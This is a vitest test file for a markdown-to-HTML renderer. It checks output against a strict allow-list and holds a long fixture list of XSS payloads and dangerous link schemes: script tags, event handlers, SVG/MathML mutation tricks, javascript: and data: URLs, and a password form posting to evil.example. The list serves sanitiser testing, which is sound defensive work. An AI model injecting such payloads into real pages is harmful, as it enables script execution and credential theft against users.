import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../src/write/kb/render.js'

const html = async (markdown: string) => (await renderMarkdown(markdown)).html

/** What may stand in a page, and with what beside it; everything else is text there. */
const SAFE =
  /^(?:[^<>]|<\/?(?:h[1-6]|p|br|hr|blockquote|pre|kbd|b|strong|i|em|u|s|del|sub|sup|ul|li|table|thead|tbody|tr|th|td)(?: \/)?>|<\/(?:a|ol|code)>|<ol(?: start="[\w-]*")?>|<code(?: class="language-[^"<>]*")?>|<a(?: href="(?:https:\/\/|mailto:|#|\/(?![/\\]))[^"<>]*")?(?: rel="noopener nofollow")(?: title="[^"<>]*")?>)*$/

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'blob:https://x/y',
  'file:///etc/passwd',
  'http://plain.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'ftp://x',
  'https://x" onmouseover="alert(1)',
]

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\u00a0>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img alt="<script>alert(1)</script>" src="https://x/y">',
  '![<script>alert(1)</script>](https://x/y)',
  '![x](https://x/y "onerror=alert(1)")',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,x">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="https://x" onclick="alert(1)" style="x" class="y" id="z" target="_blank">x</a>',
  '<a name="getElementById">x</a><a id=body>x</a>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<isindex action=javascript:alert(1)>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<b/onclick=alert(1)>x</b>',
  '<code class="language-js\' onclick=alert(1)">x</code>',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](<javascript:alert(1)>)',
  '[x](https://x "\\" onclick=\\"alert(1)")',
  '<ol start="1&quot; onclick=alert(1)"><li>x</ol>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<<script>alert(1)//<</script>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<select><noembed></select><script>alert(1)</script>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<a href=javascript&Tab;:alert(1)>x</a><a href="java&NewLine;script:alert(1)">y</a>',
  '<button popovertarget=x onclick=alert(1)>x</button><input autofocus onfocus=alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '- '.repeat(2_000),
  `${'<ul><li>'.repeat(500)}<script>alert(1)</script>`,
  '<a href="x">'.repeat(300),
  '>'.repeat(20_000),
  `${'[a]('.repeat(500)}javascript:alert(1)`,
]

describe('an article in a page', () => {
  it.each([
    ...HOSTILE,
    ...ADDRESSES.flatMap((address) => [
      `[x](${address})`,
      `![x](${address})`,
      `<${address}>`,
      `<a href="${address}">x</a>`,
      `<img src="${address}">`,
    ]),
  ])('has nothing that acts: %s', async (markdown) => {
    const shown = await html(markdown)
    expect(shown).toMatch(SAFE)
  })
  it('has what was meant', async () => {
    const shown = await html('# One\n\n1. *two*\n2. [three](https://x.example/y)\n\n|a|\n|-|\n|b|')
    expect(shown).toContain('<h1>One</h1>')
    expect(shown).toContain('<li><em>two</em></li>')
    expect(shown).toContain('<a href="https://x.example/y" rel="noopener nofollow">three</a>')
    expect(shown).toContain('<td>b</td>')
    expect(await html('```js\na < b\n```')).toContain('<code class="language-js">a &lt; b')
  })
  it('leads to paths of its own, and by mail', async () => {
    const shown = await html('[a](/kb/x?y#z) [b](#part) [c](mailto:help@demo.test)')
    for (const href of ['/kb/x?y#z', '#part', 'mailto:help@demo.test'])
      expect(shown).toContain(`href="${href}"`)
  })
  it('has a link where a picture would call its server', async () => {
    const link = '<p><a href="https://x.example/y.png" rel="noopener nofollow">The lamp</a></p>\n'
    expect(await html('![The lamp](https://x.example/y.png)')).toBe(link)
  })
  it('shows a table of thousands of cells as the text that it is, and what stands beside it as ever', async () => {
    const rows = (most: number) =>
      `[x](https://x.example/)\n\n|a|b|\n|-|-|\n${'|c|d|\n'.repeat(most)}`
    expect(await html(rows(900))).toContain('<td>d</td>')
    const shown = await html(rows(2_000))
    expect(shown).not.toContain('<table>')
    expect(shown).toContain('<a href="https://x.example/" rel="noopener nofollow">x</a>')
    expect(shown).toMatch(SAFE)
  })
  it('is looked for by what it says', async () => {
    const { words } = await renderMarkdown(
      '# A & B\n\n**bold**, un*like*ly `x < y` <script>no</script>\n\n- one\n- two<br>three',
    )
    expect(words).toBe('A & B bold, unlikely x < y one two three')
  })
})
